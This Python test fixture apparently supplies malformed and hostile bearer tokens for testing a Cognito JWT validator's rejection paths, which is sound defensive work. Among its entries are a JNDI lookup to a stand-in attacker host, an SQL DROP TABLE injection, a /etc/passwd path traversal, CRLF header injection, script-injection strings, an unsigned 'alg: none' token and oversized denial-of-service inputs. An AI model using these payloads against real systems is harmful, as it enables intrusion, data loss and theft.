"""Tokens that an attacker can send without a key, for tests of all entry points. Long ones are built on demand.

Each must be rejected before a key is fetched.
"""

import json
from collections.abc import Callable
from typing import Any

from django_cognito.testing import make_token

from .signing import b64, segment

_HEADER = {"kid": "django-cognito-testing", "alg": "RS256"}


def _token(header: Any, claims: Any, signature: bytes = bytes(256)) -> str:
    return f"{segment(header)}.{segment(claims)}.{b64(signature)}"


def _with_claims(text: str) -> str:
    return _token(_HEADER, text.encode())


def _nested(depth: int) -> str:
    return _with_claims(f'{{"iss":{"[" * depth}{"]" * depth}}}')


# Texts, also longer than a header can be.
TEXTS: dict[str, Callable[[], str]] = {
    "nothing": str,
    "a word": lambda: "token",
    "dots": lambda: "..",
    "a million dots": lambda: "." * 1_000_000,
    "20 MB": lambda: "x" * 20_000_000,
    "20 MB in three parts": lambda: _token(_HEADER, b"{" * 15_000_000),
    "20 MB of spaces": lambda: f"a{' ' * 20_000_000}b",
    "20 MB of commas": lambda: "," * 20_000_000,
    "NUL": lambda: "\0",
    "NUL in a token": lambda: make_token() + "\0",
    "a lone surrogate": lambda: "\ud800",
    "a lone surrogate in a token": lambda: f"{make_token()}\udfff",
    "beyond ASCII": lambda: "\u00e9.\u00e9.\u00e9",
    "beyond the Basic Multilingual Plane": lambda: "\U0001f600" * 100,
    "full width": lambda: make_token().replace("e", "\uff45"),
    "a header of its own": lambda: "x\r\nSet-Cookie: sessionid=attacker",
    "a response of its own": lambda: "x\r\n\r\n<script>alert(1)</script>",
    "another parameter": lambda: 'x", error="none", realm="',
    "a format": lambda: "%s%n{0}${jndi:ldap://attacker.invalid/}",
    "SQL": lambda: "'; DROP TABLE auth_user; --",
    "markup": lambda: "<img src=x onerror=alert(1)>",
    "a path": lambda: "../../../../etc/passwd",
    "another scheme": lambda: "Basic YTpi",
    "twice": lambda: f"{make_token()}, Bearer {make_token()}",
    "two joined": lambda: f"{make_token()},{make_token()}",
    "Python": lambda: repr({"iss": None}),
    "JSON": lambda: json.dumps({"protected": "", "payload": "", "signature": ""}),
    "padded": lambda: make_token() + "==",
    "standard base64": lambda: make_token()[:-2] + "+/",
    "a refresh token": lambda: f"{segment({'alg': 'RSA-OAEP', 'enc': 'A256GCM'})}.AA.AA.AA.AA",
    "no algorithm": lambda: make_token(header={"alg": "none"}).rpartition(".")[0] + ".",
    "another algorithm": lambda: make_token(header={"alg": "HS256"}),
    "a critical extension": lambda: make_token(header={"crit": ["b64"], "b64": False}),
    "an unhashable kid": lambda: make_token(header={"kid": {"a": []}}),
    "an unhashable issuer": lambda: make_token(iss={"a": []}),
    "an unhashable use": lambda: make_token(token_use="id", iss=["id"]),
    "another issuer": lambda: make_token(iss="https://attacker.invalid"),
    "an unhashable client": lambda: make_token(client_id=["1testclient23456789"]),
    "another client": lambda: make_token(client_id="attacker"),
    "no end": lambda: make_token(exp=None),
    "an exp beyond the calendar": lambda: make_token(exp=10**400),
    "an exp in the past": lambda: make_token(exp=1),
    "NaN": lambda: _with_claims('{"exp":NaN}'),
    "a member twice": lambda: _with_claims('{"iss":1,"iss":2}'),
    "5,000 digits": lambda: _with_claims(f'{{"exp":{"1" * 5_000}}}'),
    "nested": lambda: _nested(5_000),
    "invalid UTF-8": lambda: _token(_HEADER, b'{"iss":"\xff"}'),
    "UTF-16": lambda: _token(_HEADER, '{"iss":1}'.encode("utf-16")),
    "escaped surrogates": lambda: _with_claims('{"iss":"\\ud800"}'),
    "a list": lambda: _token([], []),
    "NUL in the sub": lambda: make_token(sub="a\0b"),
}
# Values that are not strings: only a caller in Python can pass them.
OTHERS: dict[str, Any] = {
    "None": None,
    "True": True,
    "a number": 5,
    "NaN": float("nan"),
    "bytes": b"a.b.c",
    "a bytearray": bytearray(b"a.b.c"),
    "a list": ["a", "b", "c"],
    "a dict": {"iss": "x"},
    "an object": object(),
    "a class": str,
    "an ellipsis": ...,
    "an exception": ValueError("a.b.c"),
}
